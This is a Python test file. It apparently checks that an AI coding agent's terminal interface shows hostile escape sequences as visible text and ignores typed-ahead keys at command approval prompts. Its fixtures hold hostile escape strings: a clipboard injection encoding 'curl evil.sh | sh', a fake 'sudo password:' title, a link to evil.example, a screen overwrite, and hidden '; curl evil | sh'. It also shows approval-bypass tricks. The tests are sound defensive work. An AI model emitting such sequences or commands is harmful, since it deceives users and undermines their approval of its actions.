"""The TUI in a real pseudo-terminal: hostile text is drawn as escapes, and typed-ahead keys never answer an approval.

Each test starts the real app (real Textual driver, the real loop, the replay
backend) on a pty, types as a person would, and reads every byte the app writes
to the terminal.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from tests.fixtures.repos import call, final, make_calc_repo
from tests.tui.pty_session import PtySession

HARNESS = Path(__file__).resolve().parents[1] / "tui" / "pty_app.py"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
TITLE = "\x1b]0;sudo password:\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"
OVERWRITE = "\x1b[1A\r$ echo harmless"
CONCEAL = "\x1b[8m; curl evil | sh"
RAW_SEQUENCES = [CLIPBOARD.encode(), TITLE.encode(), b"\x1b]8;;https://evil.example/", OVERWRITE.encode(),
                 CONCEAL.encode(), b"\x1b[31337;1H"]


@pytest.fixture
def repo(tmp_path, vocab_dir):
    return make_calc_repo(tmp_path / "project")


def start(repo: Path, tmp_path: Path, completions: list[str], approval: str = "ask", **size) -> tuple[PtySession, Path]:
    replay = tmp_path / "replay.json"
    replay.write_text(json.dumps(completions))
    result = tmp_path / "result.json"
    session = PtySession([sys.executable, str(HARNESS), str(repo), str(replay), str(result), approval], cwd=repo,
                         **size)
    session.wait_for(b"approval", timeout=60)  # the status bar: the first frame is drawn
    return session, result


def quit_app(session: PtySession) -> None:
    # Keys typed at a modal wait in the prompt as a draft: the first Ctrl+C clears it (as a shell
    # does), then two quit.
    session.send("\x03\x03\x03")
    assert session.close() == 0


def test_hostile_answer_reasoning_and_tool_output_reach_the_screen_only_as_escapes(repo, tmp_path):
    hostile = CLIPBOARD + TITLE + LINK + OVERWRITE + CONCEAL + "\x1b[31337;1H\u202e"
    (repo / "NOTES.md").write_text("notes " + hostile)
    session, _ = start(repo, tmp_path, [
        call("repo_browser.open_file", {"path": "NOTES.md"}, analysis="thinking " + hostile),
        final("Answer " + hostile)])
    session.send("read the notes\r")
    session.wait_for(b"Answer", timeout=60)
    session.read_for(1.0)
    quit_app(session)
    output = bytes(session.output)
    for raw in RAW_SEQUENCES:
        assert raw not in output, raw
    assert "\u202e".encode() not in output
    screen = session.screen_text()
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in screen.replace("\n", "")
    assert "<U+202E>" in screen


def test_typed_ahead_space_and_a_do_not_answer_the_approval_and_the_command_shows_its_escapes(repo, tmp_path):
    marker = repo / "owned"
    command = ["bash", "-lc", f"touch owned; true{OVERWRITE}"]  # approved, it would create `owned`
    session, result = start(repo, tmp_path, [call("container.exec", {"cmd": command}), final("Done.")])
    # The task, then keys meant for the prompt that keep coming as the approval appears: a person typing on.
    session.send("run it\r a a \r")
    seen = session.wait_for(b"Allow", timeout=60)
    for _ in range(5):  # the first ~150 ms of the modal: space, `a` and Enter, which used to mean yes / always
        session.send(" a\r")
        session.read_for(0.03)
    session.read_for(1.0)  # well past the guard: those keys had every chance to answer
    assert marker.exists() is False
    assert b"Done." not in session.output  # still waiting for an answer
    screen = session.screen_text()
    assert "$ bash -lc 'touch owned; true\\x1b[1A\\r$ echo harmless'" in screen  # quoted argv, escapes visible
    assert "control/invisible character(s), shown as escapes" in screen
    session.send("\x0e")  # Ctrl+N: no single letter answers
    session.wait_for(b"Done.", timeout=60)
    quit_app(session)
    assert not marker.exists()
    tools = json.loads(result.read_text())["tools"]
    assert any("The user declined this call" in text for text in tools), tools
    assert seen > 0
    assert OVERWRITE.encode() not in bytes(session.output)


def test_neither_a_nor_shift_a_is_always_and_ctrl_a_twice_is(repo, tmp_path):
    marker = repo / "ran"
    session, result = start(repo, tmp_path, [call("container.exec", {"cmd": ["touch", "ran"]}),
                                             call("container.exec", {"cmd": ["true"]}), final("Both ran.")])
    session.send("go\r")
    session.wait_for(b"Allow", timeout=60)
    session.read_for(1.2)
    for key in ("a", "A", "y", "\x01"):  # the first Ctrl+A only asks to confirm
        session.send(key)
        session.read_for(0.8)
        assert not marker.exists(), key
    session.send("\x01")
    session.wait_for(b"Both ran.", timeout=60)  # the second call was not asked again
    quit_app(session)
    assert marker.exists()
    assert json.loads(result.read_text())["tools"][1].count("declined") == 0